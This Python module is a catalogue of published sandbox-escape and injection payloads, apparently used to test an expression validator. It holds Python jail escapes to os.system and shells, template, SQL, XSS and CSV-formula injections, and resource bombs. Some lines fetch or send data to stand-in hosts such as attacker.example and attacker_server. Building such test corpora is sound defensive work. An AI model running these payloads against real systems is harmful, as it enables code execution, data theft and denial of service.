"""Published ways out of Python expression sandboxes, and payloads of the languages around them.

Each group says where its payloads were published. What the segment language itself allows, such as
`-1 + 1` or a text in quotes, is left out. A payload stands here once.
"""

# ruff: noqa: E501 - a payload stands as it was published, one a line

from __future__ import annotations


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip("\n").split("\n"))


# The names that every write-up of a Python jail starts with: run text, load a module, open a file.
_BUILTINS = _lines(r"""
eval("1")
exec("import os")
exec(input())
eval(input())
compile("1", "", "eval")
eval(compile('print("hello world"); print("heyy")', '<stdin>', 'exec'))
exec(compile('def myFunc():\n\ta="hello word"\n\tprint(a)\nmyFunc()', '<stdin>', 'exec'))
__import__('os').system('id')
__import__("subprocess").check_output("id", shell=True)
__import__('timeit').timeit("__import__('os').system('ls')",number=1)
__import__("pty").spawn("/bin/sh")
__import__('code').interact()
__import__('pdb').set_trace()
__import__("sys").breakpointhook()
__import__("ctypes")._aix.environ
importlib.import_module("os").system("ls")
importlib.__import__("os").system("ls")
imp.load_source("os","/usr/lib/python3.8/os.py").system("ls")
os.system("ls")
os.popen("ls").read()
os. cpu_count()
os.execl('/bin/ps', '-ef')
commands.getoutput("ls")
subprocess.Popen("ls", shell=True)
platform.os.system("ls")
pty.spawn("/bin/bash")
sys.modules["os"].system("ls")
sys._getframe().f_globals["__builtins__"].__import__("os").system("sh")
execfile('/usr/lib/python2.7/os.py')
pip.main(["install", "http://attacker.example/Reverse.tar.gz"])
open("/etc/passwd").read()
open('/var/www/html/input', 'w').write('123')
print(*open("flag"))
exit(set(open("flag")))
exit(*open("flag"))
help(*open("flag"))
open(*open("flag"))
int(*open("/flag.txt"))
compile(".","flag","exec")
raise Exception(*open("/flag.txt"))
breakpoint()
input()
help()
license()
quit()
exit()
globals()
locals()
vars()
dir()
globals()['__builtins__']
locals()["evaluate"]
vars()['__builtins__']['eval']('1')
getattr(__builtins__, 'ev' + 'al')('1')
getattr(getattr((), dir(())[0])(), dir(getattr((), dir(())[0])())[1])
setattr(__builtins__, 'len', eval)
delattr(__builtins__, 'open')
type('X', (), {'__del__': print})
memoryview(b'x')
reload(__builtins__)
__builtins__
__builtins__.__import__("os").system("ls")
__builtins__.__dict__['__import__']("os").system("ls")
__builtins__["open"]("/etc/passwd").read()
__builtins__.__loader__.load_module('os').system('sh')
__loader__.load_module('os')
__build_class__.__self__
""")

# Attribute chains back to the builtins module: pyjail cheat sheets of salvatore-abello, Shirajuki
# and HackTricks.
_ATTRIBUTES = _lines(r"""
print.__self__
abs.__self__
min.__self__
max.__self__
sum.__self__
len.__self__
help.__call__.__builtins__
license.__call__.__globals__
credits.__call__.__builtins__
help.__repr__.__globals__["sys"]
help.__call__.__globals__["sys"].modules["os"].system("/bin/sh")
get_flag.__globals__['__builtins__']['__import__']("os").system("ls")
get_flag.func_globals
get_flag.__code__.co_consts
get_flag.__closure__
get_flag.__defaults__
class_obj.__init__.__globals__
CustomClassObject.__class__.__init__.__globals__
().__class__
''.__class__.__mro__
[].__class__.__base__
{}.__class__.__bases__
(1).__class__.__base__
(1.0).__class__
True.__class__.__class__.__base__.__subclasses__()[-1].__init__.func_globals['sys'].exit(1)
bool.__class__.__base__.__subclasses__()
print.__class__.__base__.__subclasses__()
"".__getattribute__("__class__").mro()[1].__subclasses__()
[].__reduce_ex__(3)[0].__globals__["__builtins__"]["__import__"]("os").system("sh")
[].__reduce_ex__(3)[0].__builtins__["__import__"]("os").system("sh")
().__class__.__class__.__subclasses__(().__class__.__class__)[0].register.__builtins__["breakpoint"]()
{}.__class__.__subclasses__()[2].copy.__builtins__["__import__"]("os").system("sh")
user_defined_class.__reduce_ex__(user_defined_class(), 2)
io.open("/etc/passwd").buffer.raw.__class__("/flag.txt").read()
""")

# The walk through `object.__subclasses__()`: Ned Batchelder's "Eval really is dangerous", HackTricks,
# jail write-ups.
_SUBCLASSES = _lines(r"""
().__class__.__base__.__subclasses__()
().__class__.__bases__[0].__subclasses__()
"".__class__.__mro__[1].__subclasses__()
"".__class__.__bases__[0].__subclasses__()
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__
().__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read()
().__class__.__bases__[0].__subclasses__()[40]('/var/www/html/input', 'w').write('123')
().__class__.__bases__[0].__subclasses__()[59]()._module.__builtins__['__import__']('os').system('ls')
().__class__.__bases__[0].__subclasses__()[59].__init__.__getattribute__("func_globals")['linecache'].__dict__['os'].__dict__['system']('ls')
().__class__.__bases__[0].__subclasses__()[59].__init__.func_globals.values()[13]["eval"]("__import__('os').system('ls')")
().__class__.__bases__[0].__subclasses__()[118].get_data(".", "/flag.txt")
().__class__.__mro__[1].__subclasses__()[104].load_module("os").system("sh")
().__class__.__mro__[1].__subclasses__()[111].__subclasses__()[0].__subclasses__()[0]("/flag.txt").read()
().__class__.__mro__[1].__subclasses__()[137].__init__.__globals__["system"]("sh")
().__class__.__mro__[1].__subclasses__()[137].close.__globals__["system"]("sh")
().__class__.__mro__[1].__subclasses__()[262](["cat","/flag.txt"], stdout=-1).communicate()[0]
().__class__.__base__.__subclasses__()[158]()()
"".__class__.__base__.__subclasses__()[155].close.__globals__["sys"].modules["pdb"].set_trace()
().class.base.subclasses()[108].load_module('os').system('dir')
().__class__.__base__.__subclasses__()[137].__init__.__globals__[''.join(['sys', 'tem'])]('ls')
[x.__init__.__globals__ for x in ''.__class__.__base__.__subclasses__() if "wrapper" not in str(x.__init__) and "sys" in x.__init__.__globals__][0]["sys"].modules["os"].system("ls")
[x.__init__.__globals__ for x in ''.__class__.__base__.__subclasses__() if "'os." in str(x)][0]['system']('ls')
[x for x in ''.__class__.__base__.__subclasses__() if "'subprocess." in str(x)][0]['Popen']('ls')
[x.__init__.__globals__ for x in ''.__class__.__base__.__subclasses__() if "'imp." in str(x)][0]["importlib"].import_module("os").system("ls")
[x for x in ''.__class__.__base__.__subclasses__() if "__globals__" in dir(x)]
(lambda fc=(lambda n: [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == n][0]): fc("function")(fc("code")(0,0,0,0,0,b"KABOOM",(),(),(),"","",0,b""),{})())()
""")

# Frames of generators, coroutines and tracebacks: RestrictedPython CVE-2023-37271 and its tests.
_FRAMES = _lines(r"""
(x for x in ()).gi_frame.f_builtins
(x for x in ()).gi_frame.f_globals
(_ for _ in ()).gi_frame.f_globals["__loader__"].load_module("os").system("sh")
(await _ for _ in ()).ag_frame.f_builtins
(await _ for _ in ()).ag_frame.f_globals["_""_loader_""_"].load_module("os").system("sh")
q = (q.gi_frame.f_back.f_back.f_back for _ in (1,))
[x for x in q][0].f_builtins['__import__']('os').listdir('/')
g.gi_frame.f_back.f_back
g.gi_code.co_consts
g.gi_yieldfrom
a().cr_frame.f_globals
a().cr_await
leak.f_builtins.get('print')(result)
e.__traceback__.tb_frame.f_globals
sys.exc_info()[2].tb_frame.f_back.f_locals
inspect.currentframe().f_back
(sig:=help.__call__.__globals__["sys"].modules["_signal"],sig.signal(2, lambda *x: print(x[1])), sig.raise_signal(2))
""")

# Code objects and byte code: RestrictedPython CVE-2024-47532 (string.Formatter), HITCON 2022 "V O I D",
# uncompyle tricks of jail write-ups.
_CODE = _lines(r"""
(lambda:0).__class__((lambda:0).__code__.replace(co_code=b'|\x17S\x00', co_argcount=0, co_nlocals=0, co_varnames=()), {})()["exec"]("import os;os.system('ls')")
(lambda: 0).__code__.replace(co_consts=())
(lambda:...).__globals__
(lambda x: x).__closure__
f.__code__ = g.__code__
types.CodeType(0,0,0,0,0,0,b'',(),(),(),'','','',0,b'',b'',(),())
types.FunctionType(get_flag.__code__, {})
marshal.loads(b'\xe3')
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
string.Formatter().get_field("a.__class__.__mro__", (), {})
string.Formatter().get_field("0.__globals__", [f], {})[0]
__builtins__.__loader__.load_module('_posixsubprocess').fork_exec([b"/bin/cat", b'flag.txt'], [b"/bin/cat"], True, (), None, None, -1, -1, -1, -1, -1, -1, *(__import__('os').pipe()), False, False, None, None, None, -1, None)
ctypes.cdll.LoadLibrary('libc.so.6').system(b'id')
sys.addaudithook((lambda x: lambda *_: x(1))(os._exit))
gc.get_objects()
""")

# Calls without a call: decorators (Google CTF 2022 "Treebox"), operators bound to `exec`, subscripts.
_WITHOUT_CALLS = _lines(r"""
[[None for _.__class_getitem__ in [exec]],_['breakpoint()']][True]
[+obj for obj.__class__.__pos__ in ["".__class__.__subclasses__]]
[obj["print(123)"] for obj.__class__.__getitem__ in [eval]]
[f"{license}" for license._Printer__setup in [breakpoint]]
[f"{copyright}" for copyright.__class__.__str__ in [breakpoint]]
[-quit for quit.__class__.__neg__ in [breakpoint]]
[help["ls"] for help.__class__.__getitem__ in [system]]
[license() for license._Printer__filenames in [['/flag.txt']]]
[cobj for cobj.field in ["value"]], print(cobj.field)
[[1for __import__("os").environ["BROWSER"] in ['/bin/sh -c "cat /flag.txt" #%s']], help()]
Sub['import os; os.system("sh")']
k // 'import os; os.system("sh")'
k % 'import os; os.system("sh")'
k**'import os; os.system("sh")'
k += 'import os; os.system("sh")'
k <<= 'import os; os.system("sh")'
k |= 'import os; os.system("sh")'
k @= 'import os; os.system("sh")'
rce["print('Hello from __getitem__')"]
rce + "print('Hello from __add__')"
from os import system as __getattr__; from __main__ import sh
@print\r@set\r@open\r@input\rclass\x0ca:pass
""")

# Statements, where an expression was expected: fixtures of RestrictedPython and asteval.
_STATEMENTS = _lines(r"""
import os
import os;
import sys
from os import *
from x import y as _leading_underscore
from .x import y as _leading_underscore
del __builtins__
__builtins__ = sys
__builtins__ = os
_getattr = None
some_ob._some_attr = 15
a[b] += c
a.b += c
a[x:y] += c
a[x:y:z] += c
license._Printer__filenames = ['/flag.txt']; license()
global x; del x; assert x, yield x
print('x') if True else None; import os
assert len(set([*open("/flag.txt"), open("/flag.txt").read()])) == 1
yield 42
return os.system
while True: pass
for i in range(10**12): pass
with open('/etc/passwd') as f: print(f.read())
with a as b, c as _restricted_name: pass
def f(*a, **k): return a
def f(okname=1, __badname=2): pass
class _getattr: pass
async def f(): await g()
try: exec('q = 1')
nonlocal x
pass
11; x = 21; x + x
type X = eval
""")

# Lambdas, the walrus, comprehensions, starred arguments: 0CTF 2020 "pyaucalc", tests of simpleeval
# and RestrictedPython.
_EXPRESSIONS = _lines(r"""
lambda x: x
(lambda x:22)(44)
(lambda: exec('1'))()
lambda o, _getattr=None: o
lambda _getattr=(lambda ob, name: name): _getattr
(x := __import__('os'))
[a:=21,a*2]
[a:=().__doc__, print(a)]
[y:=().__class__.__base__.__subclasses__()[84]().load_module('builtins'),y.__import__('signal').alarm(0), y.exec("import\x20os,sys")]
[a + 1 for a in [1,2,3]]
[a.__class__ for a in [1,2,3]]
{y: y for _restricted_name in x}
{y for _restricted_name in x}
{*a, *b}
{**a, 'b': 1}
f(*args, **kwargs)
print(*[1], **{'sep': ''})
(*a, b)
x[1:2, ..., None]
x[0]
x.y
x._private
houdini.trapdoor.__globals__
houdini._quasi_private()
b.mro()
funcs[0]('exit')
funcs['evil']('1+1')
get_evil()('exit')
data['nested']['funcs'][0]('exit')
op.call(op.attrgetter("__class__.__init__.__builtins__.__getitem__"), op)
map(eval, ['1'])
list(map(str, [-1, 0, 1]))
max([1], key=eval)
sorted([1], key=print)
filter(None, [1])
reduce(getattr, ['__class__'], x)
red = print.__reduce__()
genfromtxt.view = id
i.import_module("os",["sys"],["system"])
(await x)
(yield x)
...
b'x' + rb'y'
1j
(3+1).ᵇit_length()
not {}
[] or {}
x is x
x if x
a < [0, 0, 0]
""")

# Format strings and f-strings: CVE-2016-10745, CVE-2019-10906 (Jinja2), CVE-2023-41039
# (RestrictedPython), CVE-2025-24359 (asteval), tests of simpleeval.
_FORMATS = _lines(r"""
f'{().__class__}'
f"{x.__globals__}"
f"{__import__('os').system('cat flag.txt')}"
f"{houdini._quasi_private()}"
f'{x!r:{y}}'
f"{65:c}"
rf'{x}'
t'{x}'
'{0.__class__}'.format(1)
"{string.__class__}".format(string="things")
"{a.__class__}".format_map(x)
"{0.__doc__.lol}".format(())
'{0.system("/bin/sh")}'.format(os)
'{:open-the-pod-bay-doors}'.format(HAL9000())
'test {0}'.format
"{people_obj.__init__.__globals__[CONFIG][KEY]}".format(people_obj=people)
'{i.find.__globals__[so].mapperlib.sys.modules[ctypes].cdll[/path/to/file]}'.format(i=x)
"{0.__init__.__globals__[__loader__].load_module.__globals__[sys].modules[ctypes].cdll[/tmp/lib.so]}".format(user)
{whoami.__class__.__dict__}
{whoami.__globals__[os].environ}
{whoami.__globals__[sys].modules}
"%s" % x
'%(a)s' % {'a': x}
'a'.join(['b'])
str.format
""")

# Names that Unicode folds to others (PEP 672), encodings of text, and escapes.
_UNICODE = (
    *_lines(r"""
𝘦𝘹𝘦𝘤("1")
𝘦𝘷𝘢𝘭("1")
ｅｖａｌ("__import__('os').system('id')")
𝘣𝘳𝘦𝘢𝘬𝘱𝘰𝘪𝘯𝘵()
𝓮𝔁𝓮𝓬(𝓲𝓷𝓹𝓾𝓽())
ℯval("1")
ªbs(x)
_＿𝘪𝘮𝘱𝘰𝘳𝘵＿_(𝘪𝘯𝘱𝘶𝘵()).system(𝘪𝘯𝘱𝘶𝘵())
()._＿𝘤𝘭𝘢𝘴𝘴＿_._＿𝘮𝘳𝘰＿_[1]._＿𝘴𝘶𝘣𝘤𝘭𝘢𝘴𝘴𝘦𝘴＿_()[104].𝘭𝘰𝘢𝘥_𝘮𝘰𝘥𝘶𝘭𝘦("\157\163").𝘴𝘺𝘴𝘵𝘦𝘮("\57\142\151\156\57\163\150")
[𝘺:=()._＿𝘥𝘰𝘤＿_, 𝘢:=y[19]]
__ımport__('os')
print‿x
х.__class__
exec("\137\137\151\155\160\157\162\164\137\137\50\47\157\163\47\51\56\163\171\163\164\145\155\50\47\154\163\47\51")
exec("\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x6f\x73\x27\x29")
exec("\u005f\u005fimport\u005f\u005f")
exec(__import__('base64').b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2xzJyk='))
exec(bytes.fromhex('5f5f696d706f72745f5f').decode())
exec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)+chr(115))
__import__('so'[::-1]).system('cat flag')
__import__('\x6f\x73').system('cat flag')
"\N{LATIN SMALL LETTER A}"
"""),
    "ev\u200bal('1')",
    "spend\u200b > 1",
    "\u202espend",
    "spend > 1\u2028import os",
    "spend > 1\x00; import os",
    "spend > 1\x0cimport os",
    "\ufeffimport os",
    "x\u0301 + 1",
    "\x1b]0;title\x07\x1b[31m",
    "\x9b31m",
    "# -*- coding: utf_7 -*-\ndef f(x):\n    return x\n    #+AAo-print(open('flag.txt').read())",
)

# Payloads of several lines: Google CTF 2022 "Treebox", RestrictedPython CVE-2023-37271, pyjail write-ups.
_BLOCKS = (
    "@exec\n@input\nclass X: pass",
    "@print\n@set\n@open\n@input\ndef a(): pass",
    '@eval\n@\'__import__("os").system("sh")\'.format\nclass _: pass',
    "class Metaclass(type):\n    __getitem__ = exec\nclass Sub(metaclass=Metaclass): pass",
    "class RCE(Exception):\n    def __init__(self):\n        self += 'import os'\n    __iadd__ = exec\nraise RCE",
    "try:\n    raise Klecko\nexcept Klecko as k:\n    k + 'import os; os.system(\"sh\")'",
    "try: 1/0\nexcept* E as e: pass",
    "match ():\n    case object(__doc__=a): pass",
    "match x:\n case {'a': [1, *_]}: pass",
    "sys.excepthook = X\n1/0",
    "__builtins__.__import__ = X\n{}[1337]",
    "a = __builtins__.help\na.__class__.__enter__ = __builtins__.__dict__['license']\nwith (a as b): pass",
    "g = None\ndef test():\n    global g\n    yield g.gi_frame.f_back.f_back\ng = test()\ng.send(None)",
    "async def a(): pass\na().cr_frame.f_globals",
    "async def f():\n    async with x as y: pass\n    async for i in z: pass",
    "def f(x):\n    return x\nf.__globals__",
    "import numpy\nnumpy.load('/tmp/exp', allow_pickle=True)",
    "x = 1\nx.__class__",
    "x = (\n__import__('os')\n)",
    "'''\nimport os\n'''",
    '"""a\nb"""',
    "print(1) \\\n+ open('x')",
    "if True:\n    import os",
    "%timeit x\n!ls\n?x\nx?",
    "!cat /etc/passwd",
    "%run evil.py",
    "%%bash\nid",
    "get_ipython().system('id')",
)

# pandas `DataFrame.eval` and `query`, `pandas.eval` (Checkmarx, "Glass sandbox"), numexpr
# (CVE-2023-39631 and its tests), polars and SQL contexts.
_FRAMES_OF_DATA = _lines(r"""
@pd.io.common.os.popen('ls').read()
@__builtins__.__import__("os").system("ls")
@pd.read_pickle('http://0.0.0.0:6334/output.exploit')
@pd.annotations.__class__.__init__.__globals__['__builtins__']['eval']('print(1)')
@pd.compat.os.system("id")
@spend > 1
`spend`.__class__
spend.__class__.__init__.__globals__
spend.values.ctypes.data
spend.apply(eval)
spend.map(print)
spend.str.contains("x")
spend.to_csv("/tmp/x")
spend.to_pickle("/tmp/x")
plan.str.replace("a", eval)
df.query('a > 1')
df.eval("x = 1")
df["spend"]
df.loc[0, "spend"]
pd.eval("1")
pd.read_csv("http://x")
pl.col("spend").map_elements(eval)
pl.read_database_uri("SELECT 1", "sqlite:///x")
np.load("/tmp/exp", allow_pickle=True)
np.frombuffer(b"")
numpy.rec.fromfile("/flag.txt", formats="i1")
numpy.f2py.crackfortran.myeval("1")
evaluate("__import__('os').system('id')")
where(spend > 1, 1, 0).__class__
spend & (visits > 3)
spend | visits
~newbie
spend ** visits
spend // 2
spend % 2
spend @ visits
spend << 2
spend == 1; visits
index > 1
ilevel_0 > 1
""")

# Jinja2, Mako, Tornado and Django templates, and templates of other languages: PayloadsAllTheThings,
# CVE-2024-56326, CVE-2025-27516, CVE-2023-33733 (ReportLab).
_TEMPLATES = _lines(r"""
{{7*7}}
{{7*'7'}}
{{4*4}}[[5*5]]
${7*7}
${{7*7}}
#{ 7 * 7 }
<%= 7 * 7 %>
@(1+2)
*{7*7}
{{config.items()}}
{{config.__class__.__init__.__globals__['os'].popen('ls').read()}}
{{ self.__init__.__globals__.__builtins__ }}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner.__init__.__globals__.os.popen('id').read() }}
{{ namespace.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__["os"].popen('id').read() }}
{{ get_flashed_messages.__globals__.__builtins__.open("/etc/passwd").read() }}
{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}
{{''.__class__.mro()[1].__subclasses__()[396]('cat flag.txt',shell=True,stdout=-1).communicate()[0].strip()}}
{{ config.from_pyfile('/tmp/evilconfig.cfg') }}
{{request|attr("__class__")}}
{{request|attr(["_"*2,"class","_"*2]|join)}}
{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')}}
{{''|attr('format')|attr('__self__')}}
(''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1))
{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(request.args.input).read()}}{%endif%}{%endfor%}
{% debug %}
{% include 'admin/base.html' %}
{%import os%}{{os.system('nslookup oastify.com')}}
{{ messages.storages.0.signer.key }}
${self.module.cache.util.os.system("id")}
${self.template.__init__.__globals__['os'].system('id')}
<% import os %>${os.popen('id').read()}
<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}
${T(java.lang.Runtime).getRuntime().exec('cat etc/passwd')}
${jndi:ldap://x}
{{['id']|filter('system')}}
{php}echo `id`;{/php}
{{constructor.constructor('alert(1)')()}}
[[[getattr(pow, Word('__globals__'))['os'].system('ping 10.10.10.10') for Word in [orgTypeFun('Word', (str,), {})]] for orgTypeFun in [type(type(1))]]] and 'red'
""")

# Too much of everything: literals, powers, nesting and repetition, as in tests of simpleeval,
# reports against `ast.literal_eval` (CPython's parser) and the billion laughs.
_BOMBS = (
    "9**9**9",
    "9**9**9**9",
    "10**10**10",
    "2**2**2**2**2**2**2**2",
    "1<<25000",
    "1<<(1<<30)",
    "1>>25000",
    "50000*'text'",
    "'text'*50000",
    "('text'*50000)*1000",
    "'a' * 10**10",
    "[0]*10**10",
    "[[0]*10000]*10000",
    "(1,)*10**9",
    "range(10**12)",
    "[j for i in range(1000) if i > 10 for j in range(i) if j < 20]",
    "[[[c for c in range(a)] for a in range(b)] for b in range(200)]",
    "(1).from_bytes(('123123123123123123123123').encode()*999999, 'big')",
    "f'{\"foo\"*50000}'",
    "f'{1:1000000000}'",
    "'%1000000000d' % 1",
    "'{:>1000000000}'.format(1)",
    "''.ljust(10**10)",
    "int('9' * 5000)",
    "round(1, 10**9)",
    "factorial(10**9)",
    "pow(9, 9**9)",
    "1e999",
    "0x" + "f" * 1_000,
    "9" * 1_000,
    "1_" * 1_000 + "1",
    "1" + "0" * 400 + ".0",
    "0." + "9" * 1_000 + "e400",
    "(" * 2_000,
    "(" * 2_000 + "1" + ")" * 2_000,
    "(" * 100 + "1" + ")" * 100,
    "[" * 2_000 + "]" * 2_000,
    "{" * 2_000 + "}" * 2_000,
    "[(" * 1_000,
    "-" * 4_000 + "1",
    "~" * 4_000 + "1",
    "not " * 2_000 + "True",
    "+" * 1_000 + "1",
    "1 if 1 else " * 600 + "1",
    "lambda:" * 1_000 + "1",
    "x." * 4_000 + "x",
    "x[" * 1_800 + "0" + "]" * 1_800,
    "f(" * 2_000 + ")" * 2_000,
    "abs(" * 60 + "1" + ")" * 60,
    "1 + " * 2_800 + "1",
    "x == " * 2_100 + "x",
    "x and " * 2_100 + "x",
    "spend or " * 1_200,
    "'a' " * 2_000,
    "'" * 6_000,
    "'" + "a" * 10_000 + "'",
    "`" * 6_000,
    "a" * 10_000,
    "f'" + "{" * 1_000 + "}" * 1_000 + "'",
    "\\" * 6_000,
    "[" + "1," * 4_000 + "]",
    "{" + "1:1," * 2_000 + "}",
    "f(" + "a," * 4_000 + ")",
    "x" + " if x" * 1_000,
    "x" + " else x" * 1_000,
    "re.match('(a+)+$', 'a' * 40)",
    "exec('while 1: pass')",
    "os.fork()",
    "__import__('time').sleep(10**9)",
)

# SQL injection: the lists of PayloadsAllTheThings and of OWASP. They are expressions where a cell
# becomes a query.
_SQL = _lines(r"""
' or 'x'='x
' or ''-'
" or "" "
" or true--
') or true--
or 1=1
or 1=1--
or 1=1#
or 1=1/*
1 or 1=1
1 OR 1=1
admin' --
admin'/*
admin' or '1'='1'--
admin") or ("1"="1"/*
'; DROP TABLE customers; --
1; DROP TABLE customers
1'; EXEC xp_cmdshell('dir'); --
1 UNION SELECT username, password FROM users
1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055
(SELECT password FROM users LIMIT 1)
CASE WHEN spend > 1 THEN 1 ELSE 0 END
spend IN (SELECT id FROM users)
spend BETWEEN 1 AND 2
plan LIKE '%gold%'
plan ILIKE 'g_ld'
plan IS NOT NULL
plan = 'gold'
plan <> 'gold'
plan || 'x'
spend::text
CAST(spend AS text)
SLEEP(5)
pg_sleep(5)
1 AND SLEEP(5)
BENCHMARK(10000000, MD5(1))
WAITFOR DELAY '0:0:5'
LOAD_FILE('/etc/passwd')
read_csv('/etc/passwd')
read_text('/etc/passwd')
COPY customers TO '/tmp/x'
ATTACH 'x.db'
INSTALL httpfs
PRAGMA database_list
current_setting('home_directory')
getenv('HOME')
@@version
/* comment */ 1
1 -- comment
$$x$$
:name
?
""")

# Vega expressions (CVE-2020-26296, CVE-2023-26486, CVE-2023-26487, CVE-2025-25304, CVE-2025-26619,
# CVE-2025-59840), where a cell becomes a chart.
_CHARTS = _lines(r"""
(0//1/)-'\\\n,alert(1))))//'
(0/ /1/)-'\\\n,alert(1))))//'
join({'join':event.target.ownerDocument.defaultView.eval},'alert(1)')
replace('alert(1)',/.*/,event.target.ownerDocument.defaultView.eval)
scale(event.view.setTimeout, 'alert(1)')
scale({context: {dataflow: {scales: {}}}}, 'x')
lassoAppend({'slice': event.view.eval}, 'alert(1)')
vlSelectionTuples([{datum: 1}], {fields: [{getter: Function}]})
{toString: event.view.VEGA_DEBUG.view.constructor}+1
{__proto__:eventGroup(), scale: ('').constructor.constructor}
datum['constructor']['constructor']('alert(1)')()
datum.spend > 1
datum["spend"]
inrange(datum.x, [0, 1])
''.constructor.constructor('alert(1)')()
toString.constructor.prototype
__proto__.polluted
window.alert(1)
event => 1
x ? 1 : 0
x === 1
!x
x++
x ?? y
x?.y
`${x}`
/x/.test(plan)
new Function('alert(1)')()
void 0
typeof x
""")

# HTML and JavaScript, where a cell is shown: the polyglots of PayloadsAllTheThings and OWASP's sheet.
_PAGES = _lines(r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
"><svg/onload=alert(1)>
'"><img src=x onerror=confirm(1)>
<svg><script>alert&#40;1&#41;</script>
<iframe srcdoc="<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<style>@import 'http://x'</style>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
javascript:alert(document.cookie)
javascript:/*--></title></style></textarea></script></xmp><details/open/ontoggle='+/`/+/"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)//'>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e
';alert(String.fromCharCode(88,83,83))//
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
$\href{javascript:alert(1)}{x}$
![x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
&lt;script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
""")

# Formulas of spreadsheets (CSV injection, OWASP), where a table is exported, and shells, where a
# cell becomes a command.
_SHEETS_AND_SHELLS = _lines(r"""
=cmd|' /C calc'!A0
=2+5+cmd|' /C calc'!A0
=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0
@SUM(1+1)*cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
=rundll32|'URL.dll,OpenURL calc.exe'!A
=HYPERLINK("http://x?leak="&A1,"click")
=IMPORTXML("http://x/csv", "//a/@href")
=WEBSERVICE("http://x/?"&NOW())
DDE("cmd";"/C calc";"!A0")A0
=1+1
+1+1
@SUM(A1:A9)
A1:B2
$A$1
$(id)
`id`
; id
| id
&& id
|| id
> /tmp/x
$(cat /etc/passwd)
${IFS}id
../../../../etc/passwd
file:///etc/passwd
http://169.254.169.254/latest/meta-data/
\\attacker\share
""")

PAYLOADS: dict[str, tuple[str, ...]] = {
    "builtins": _BUILTINS,
    "attributes": _ATTRIBUTES,
    "subclasses": _SUBCLASSES,
    "frames": _FRAMES,
    "code objects": _CODE,
    "without calls": _WITHOUT_CALLS,
    "statements": _STATEMENTS,
    "expressions": _EXPRESSIONS,
    "formats": _FORMATS,
    "unicode": _UNICODE,
    "blocks": _BLOCKS,
    "data frames": _FRAMES_OF_DATA,
    "templates": _TEMPLATES,
    "bombs": _BOMBS,
    "sql": _SQL,
    "charts": _CHARTS,
    "pages": _PAGES,
    "sheets and shells": _SHEETS_AND_SHELLS,
}
